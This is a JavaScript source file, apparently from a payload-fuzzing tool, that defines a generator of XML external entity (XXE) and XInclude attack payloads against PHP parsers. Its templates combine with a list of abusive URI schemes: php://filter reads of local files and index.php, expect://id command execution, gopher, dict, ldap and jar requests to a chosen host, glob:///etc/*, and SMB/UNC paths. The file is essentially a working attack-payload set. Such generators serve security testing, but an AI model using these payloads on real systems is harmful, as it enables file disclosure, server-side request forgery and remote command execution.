import { xxeGenerator } from '../xxe-generator.js';

/** Schemes of PHP's and Java's parsers. */
export const streamWrapper = xxeGenerator({
  name: 'stream-wrapper',
  parser: 'php',
  rules: {
    start: [
      '{declaration}{break}<!DOCTYPE {root:r} [<!ENTITY {entity:e} SYSTEM {q:q}{scheme}{q:q}>]><{root:r}>&{entity:e};</{root:r}>',
      '{declaration}<!DOCTYPE {root:r} [<!ENTITY % {entity:e} SYSTEM {q:q}{scheme}{q:q}>%{entity:e};]><{root:r}/>',
      '<{root:r} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href={q:q}{scheme}{q:q}/></{root:r}>',
    ],
    scheme: [
      'php://filter/convert.base64-encode/resource={file}',
      'php://filter/read=convert.base64-encode/resource=index.php',
      'php://input',
      'expect://id',
      'data://text/plain;base64,PCFFTlRJVFkgeCAneSc+',
      'jar:http://{host}/{letters}.zip!/{letters}',
      'jar:file://{file}!/',
      'netdoc:{file}',
      'netdoc://{file}',
      'gopher://{host}/_{letters}',
      'phar://{letters}.phar/{letters}',
      'compress.zlib://{file}',
      'dict://{host}/info',
      'ldap://{host}/{letters}',
      'mailto:x@{host}',
      'zip://{letters}.zip#{letters}',
      'glob:///etc/*',
      'smb://{host}/share/{letters}',
      '\\\\\\\\{host}\\\\share\\\\{letters}',
    ],
  },
});
